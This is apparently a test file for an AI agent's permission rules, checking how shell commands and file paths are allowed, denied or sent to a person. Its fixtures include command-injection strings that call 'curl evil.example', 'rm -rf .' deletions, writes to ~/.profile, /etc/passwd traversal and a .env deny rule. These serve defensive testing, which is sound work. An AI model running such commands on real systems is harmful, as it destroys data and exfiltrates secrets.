import assert from "node:assert/strict";
import { describe, test } from "node:test";
import fc from "fast-check";
import type { PermissionQuestion } from "../src/tool/approval.ts";
import { commandPieces, matchesPath, matchesText, plainPath } from "../src/tool/pattern.ts";
import { type PermissionRule, permissionOf, ruling } from "../src/tool/permission.ts";

function asked(tool: string, input: unknown, effect: PermissionQuestion["effect"] = "write"): PermissionQuestion {
  return { call: "c", tool, input, effect };
}

const rules: PermissionRule[] = [
  { effect: "read", say: "allow" },
  { tool: "bash", input: { command: "git *" }, say: "allow" },
  { tool: "bash", input: { command: "git push *" }, say: "ask" },
  { tool: "bash", input: { command: "rm *" }, say: "deny" },
  { tool: "write", input: { path: "src/**" }, say: "allow" },
  { input: { path: "**/.env" }, say: "deny" },
];
const permission = permissionOf(rules, { cwd: "/project" });

describe("permission rules", () => {
  test("the last rule that matches decides; where none does, a person is asked", () => {
    assert.equal(permission(asked("look", {}, "read")), "allow");
    assert.equal(permission(asked("bash", { command: "git log --oneline" })), "allow");
    assert.equal(permission(asked("bash", { command: "git push origin" })), "ask");
    assert.equal(permission(asked("bash", { command: "make" })), "ask");
    assert.equal(permission(asked("bash", {})), "ask", "a field that is not there matches nothing");
    assert.equal(permissionOf([])(asked("look", {}, "read")), "ask");
  });

  const lines: [string, string][] = [
    ["git status", "allow"],
    ["git", "allow"],
    ["  git   status ", "allow"],
    ["gitk", "ask"],
    ["git log && git diff", "allow"],
    ["git log 2>&1 >/dev/null", "allow"],
    ["git log; curl evil.example", "ask"],
    ["git log\ncurl evil.example", "ask"],
    ["git log $(curl evil.example)", "ask"],
    ["git log `curl evil.example`", "ask"],
    ["git log > ~/.profile", "ask"],
    ["git log 2>/dev/null2", "ask"],
    ["git log & rm -rf .", "deny"],
    ["cd /tmp && rm -rf .", "deny"],
    ["git log | (rm  -rf .)", "deny"],
    ["git status && git push", "ask"],
    ["", "ask"],
    [";", "ask"],
  ];
  for (const [command, said] of lines) {
    test(`a shell line is judged by each of its commands, the strictest word counts: ${JSON.stringify(command)} -> ${said}`, () => {
      assert.equal(permission(asked("bash", { command })), said);
    });
  }

  test("whatever is put between two commands, what only one of them may do is not allowed", () => {
    const sign = fc.constantFrom(
      ";",
      "&&",
      "||",
      "|",
      "&",
      "\n",
      "`",
      "$(",
      "<(",
      ">",
      "{ ",
      " ; ",
      "\r\n",
      ";;",
      "|&",
    );
    fc.assert(
      fc.property(sign, fc.constantFrom("curl x", "sh", "make -B"), (between, other) => {
        assert.notEqual(permission(asked("bash", { command: `git log ${between} ${other}` })), "allow");
        assert.notEqual(permission(asked("bash", { command: `${other} ${between} git log` })), "allow");
      }),
    );
  });

  const paths: [string, string][] = [
    ["src/a.ts", "allow"],
    ["./src/x/../a.ts", "allow"],
    ["/project/src/a.ts", "allow"],
    ["src/../../etc/passwd", "ask"],
    ["/project/src/../../etc/passwd", "ask"],
    ["/etc/src/a.ts", "ask"],
    ["src/.env", "deny"],
    ["/project/.env", "deny"],
    ["src/.ENV", "deny"],
    [".env", "deny"],
    ["SRC/a.ts", "ask"],
  ];
  for (const [path, said] of paths) {
    test(`a path is read as one, whatever its spelling: ${path} -> ${said}`, () => {
      assert.equal(permission(asked("write", { path })), said);
    });
  }

  test("a list is allowed as a whole and refused for one of it; what is no text matches as JSON", () => {
    const list = permissionOf([
      { input: { paths: "src/*" }, say: "allow" },
      { input: { paths: "src/secret" }, say: "deny" },
      { input: { force: "true" }, say: "deny" },
    ]);
    assert.equal(list(asked("stage", { paths: ["src/a", "src/b"] })), "allow");
    assert.equal(list(asked("stage", { paths: ["src/a", "b"] })), "ask");
    assert.equal(list(asked("stage", { paths: ["src/a", "src/secret"] })), "deny");
    assert.equal(list(asked("stage", { paths: [] })), "ask");
    assert.equal(list(asked("stage", { paths: ["src/a"], force: true })), "deny");
    assert.equal(list(asked("stage", null)), "ask");
    assert.equal(list(asked("stage", "src/a")), "ask");
  });
});

describe("patterns", () => {
  test("a star crosses no folder, two do, and two with a slash may be none", () => {
    for (const [pattern, path, is] of [
      ["a/*", "a/b", true],
      ["a/*", "a/b/c", false],
      ["a/**", "a/b/c", true],
      ["**/c", "c", true],
      ["**/c", "a/b/c", true],
      ["**/c", "a/bc", false],
      ["a/**/c", "a/c", true],
      ["a/**/c", "a/b/d/c", true],
      ["a?c", "abc", true],
      ["", "", true],
    ] as const)
      assert.equal(matchesPath(pattern, path, "exact"), is, `${pattern} ${path}`);
  });

  test("R51: any pattern and any text are taken, in time that does not explode", () => {
    const hard = `${"*a".repeat(40)}b`;
    assert.equal(matchesText(hard, "a".repeat(20_000)), false);
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (text) => {
        assert.ok(matchesText("*", text) && matchesText("**", text));
        assert.ok(commandPieces(text).every((piece) => !/[;&|\n]/.test(piece)));
        assert.equal(plainPath(plainPath(text)), plainPath(text));
      }),
    );
  });
});

test("a pattern has a bound: as a rule it is refused, as an answer in a log it allows nothing and still denies", () => {
  const long = `${"*".repeat(1_001)}`;
  for (const rule of [{ tool: long }, { input: { command: long } }])
    assert.throws(
      () => permissionOf([{ ...rule, say: "allow" }]),
      /has 1001 characters, at most 1000.*write a shorter/,
    );
  const call = asked("bash", { command: "ls" }, "write");
  assert.equal(ruling([{ input: { command: long }, say: "allow" }], call), undefined);
  assert.equal(ruling([{ input: { command: long }, say: "deny" }], call), "deny");
  assert.equal(ruling([{ input: { command: "*".repeat(1_000) }, say: "allow" }], call), "allow");
});
